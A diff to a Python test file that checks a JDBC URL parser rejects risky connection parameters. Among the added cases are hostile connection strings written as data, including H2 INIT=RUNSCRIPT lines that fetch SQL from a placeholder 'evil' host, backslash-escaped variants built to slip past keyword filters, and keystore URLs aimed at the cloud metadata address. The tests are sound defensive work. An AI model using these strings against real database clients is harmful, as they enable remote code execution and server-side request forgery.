@@ -92,7 +92,10 @@ def test_no_jdbc_url(text: str) -> None:
         ("jdbc:mariadb://h/db?allowLocalInfile=true", "allowLocalInfile"),
         ("jdbc:mariadb://h/db?credentialType=x&socketFactory=a.B", "socketFactory"),
         ("jdbc:sqlite:/a.db?enable_load_extension=true", "enable_load_extension"),
+        ("jdbc:mariadb://h/db?credentialType=ENV&userKey=SECRET", "credentialType"),
         ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "INIT"),
+        (r"jdbc:h2:mem:x;IN\IT=RUNSCRIPT FROM 'http://evil/x.sql'", r"IN\IT"),
+        (r"jdbc:h2:mem:x;TRACE_LEVEL_FI\LE=3", r"TRACE_LEVEL_FI\LE"),
         ("jdbc:h2:mem:x;MODE=MySQL\\; init =CREATE ALIAS X", "init"),
         ("jdbc:h2:mem:x;\u0131nit=CREATE ALIAS X", "\u0131nit"),
         ("jdbc:h2:mem:x;TRACE_LEVEL_FILE=3", "TRACE_LEVEL_FILE"),
@@ -109,6 +112,9 @@ def test_no_jdbc_url(text: str) -> None:
         ("jdbc:calcite:model=/x.json", "model"),
         ("jdbc:avatica:remote:url=http://h;httpclient_impl=a.B", "httpclient_impl"),
         ("jdbc:unknown://h?x=1;SocketFactory=a.B", "SocketFactory"),
+        ("jdbc:databricks://h;KrbJAASFile=/x", "KrbJAASFile"),
+        ("jdbc:redshift://h/db?LogPath=/srv", "LogPath"),
+        ("jdbc:exa:h;logdir=/srv", "logdir"),
     ],
 )
 def test_parameters_that_load_code_or_files(text: str, named: str) -> None:
@@ -116,6 +122,39 @@ def test_parameters_that_load_code_or_files(text: str, named: str) -> None:
         JdbcUrl.parse(text)
     assert named in str(raised.value)
     assert "a.B" not in str(raised.value)
+
+
+@pytest.mark.parametrize(
+    ("text", "named"),
+    [
+        ("jdbc:postgresql://h/db?newInSomeVersion=1&sslmode=require", "newInSomeVersion"),
+        ("jdbc:postgresql://h/db?PGHOST=other", "PGHOST"),
+        ("jdbc:mysql://(host=h,userKey=x)/db", "userKey"),
+        ("jdbc:mariadb://h/db?userKey=SECRET", "userKey"),
+        ("jdbc:sqlite:/a.db?vfs=evil", "vfs"),
+        ("jdbc:sqlite:/a.db?temp_store_directory=/srv", "temp_store_directory"),
+        ("jdbc:derby:x;shutdown=true", "shutdown"),
+        ("jdbc:h2:mem:x;BUILTIN_ALIAS_OVERRIDE=1", "BUILTIN_ALIAS_OVERRIDE"),
+    ],
+)
+def test_of_known_databases_only_known_parameters_are_possible(text: str, named: str) -> None:
+    with pytest.raises(ValueError, match=f"not among those allowed for .*: {named};"):
+        JdbcUrl.parse(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "jdbc:mysql://h/db?trustCertificateKeyStoreUrl=http://169.254.169.254/",
+        "jdbc:mysql://h/db?clientCertificateKeyStoreUrl=file://evil/x",
+        "jdbc:mysql://h/db?trustCertificateKeyStoreUrl=jar%3Afile:/x!/y",
+        "jdbc:mariadb://h/db?trustStore=ftp://evil/x",
+        "jdbc:sqlserver://h;trustStore=https://evil/x",
+    ],
+)
+def test_keys_and_certificates_are_files(text: str) -> None:
+    with pytest.raises(ValueError, match="not in a file of this machine"):
+        JdbcUrl.parse(text)
 
 
 @pytest.mark.parametrize(
@@ -161,7 +200,9 @@ def test_credentials_belong_elsewhere(text: str) -> None:
         "jdbc:postgresql://h/db?currentSchema=a,b&reWriteBatchedInserts=true&options=-c%20statement_timeout=5s",
         "jdbc:postgresql://h/db?ApplicationName=init",
         "jdbc:mysql://h/db?serverTimezone=UTC&rewriteBatchedStatements=true&sslMode=REQUIRED&sessionVariables=a=1",
-        "jdbc:mysql://h/db?trustCertificateKeyStoreUrl=file:/x&failOverReadOnly=false&initTimeout=1",
+        "jdbc:mysql://h/db?trustCertificateKeyStoreUrl=file:/x&failOverReadOnly=false&initialTimeout=1",
+        "jdbc:mariadb://h/db?trustStore=file:///x.p12&keyStore=/y.p12",
+        "jdbc:sqlite:/data/(x=1).db",
         "jdbc:mariadb://h/db?useBulkStmts=true&serverSslCert=/ca.pem",
         "jdbc:sqlserver://h;databaseName=x;encrypt=true;trustServerCertificate=false;failoverPartner=other",
         "jdbc:sqlite:/home/me@work/x.db",
